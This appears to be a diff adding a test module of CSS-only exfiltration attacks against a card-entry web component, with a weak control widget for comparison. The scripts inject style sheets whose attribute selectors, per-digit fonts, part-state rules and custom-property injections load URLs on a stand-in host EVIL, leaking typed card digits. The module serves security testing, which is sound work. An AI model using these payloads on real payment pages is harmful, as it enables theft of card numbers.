@@ -1,0 +1,53 @@
+/** Style sheets alone: what a rule can tell a server by loading, or not loading, an image or a font. */
+import type { Attack } from '../attack.ts';
+
+const wear = `const wear = (text) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(text); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; };`;
+
+export const CSS: readonly Attack[] = [
+  {
+    id: 'css-attr',
+    what: 'has a rule per pair of digits, by attribute selectors on the element, its parts and everything in it',
+    aim: 'reading',
+    control: 'reads',
+    script: `${wear}
+      wear(PAIRS.map((pair) => '[value*="' + pair + '"] { background-image: url("' + EVIL + '/' + pair + '") }'
+        + ' shoji-card::part(field)[value*="' + pair + '"], shoji-card *[value*="' + pair + '"], shoji-card[value*="' + pair + '"] { border-image-source: url("' + EVIL + '/' + pair + '") }').join(' '));`,
+  },
+  {
+    id: 'css-part',
+    what: 'has rules for parts in focus, filled, valid and empty',
+    aim: 'reading',
+    control: 'reads',
+    script: `${wear}
+      const parts = ['number', 'input', 'field', 'frame', 'iframe', 'card', 'vault', 'badge', 'error'];
+      wear('naive-card::part(number):focus { background-image: url("' + EVIL + '/control") }');
+      for (const part of parts) for (const state of [':focus', ':placeholder-shown', ':valid', ':invalid', ':autofill', ':focus-within'])
+        try { wear('shoji-card::part(' + part + ')' + state + ' { background-image: url("' + EVIL + '/genuine") }'); } catch { /* no such state here */ }`,
+  },
+  {
+    id: 'css-font',
+    what: 'has a font per digit, by unicode-range, inherited into the widget and set on its parts',
+    aim: 'reading',
+    control: 'reads',
+    script: `${wear}
+      const text = [];
+      for (const digit of '0123456789') text.push('@font-face { font-family: skim; src: url("' + EVIL + '/digit-' + digit + '") format("woff2"); unicode-range: U+003' + digit + ' }');
+      text.push('#control-number, #preview, shoji-card, shoji-card::part(field), shoji-card::part(badge) { font-family: skim, sans-serif !important }');
+      const style = document.createElement('style'); // a constructed sheet loads no fonts in every engine
+      style.textContent = text.join('\\n');
+      document.head.append(style);`,
+  },
+  {
+    id: 'css-var',
+    what: 'sends addresses through custom properties and inherited values, as a theme would',
+    aim: 'reading',
+    control: 'reads',
+    script: `${wear}
+      const address = 'url("' + EVIL + '/genuine")';
+      wear('naive-card::part(number) { background-image: var(--theme) } naive-card { --theme: url("' + EVIL + '/control") }');
+      wear('shoji-card { ' + ['color-text', 'color-background', 'font', 'background', 'border', 'radius', 'image'].map((name) => '--shoji-' + name + ': ' + address + ';').join(' ')
+        + ' font-family: "x); background: ' + "url('" + EVIL + "/genuine')" + '"; quotes: ' + "'}' '*{background:url(" + EVIL + "/genuine)}'" + ' }');
+      whenHosts(() => { for (const host of document.querySelectorAll('shoji-card')) for (const property of ['accentColor', 'caretColor', 'colorScheme', 'fontFamily', 'fontVariantNumeric', 'letterSpacing'])
+        host.style[property] = property === 'fontFamily' ? '"a\\\\";}*{background:' + address + '}"' : address; });`,
+  },
+];
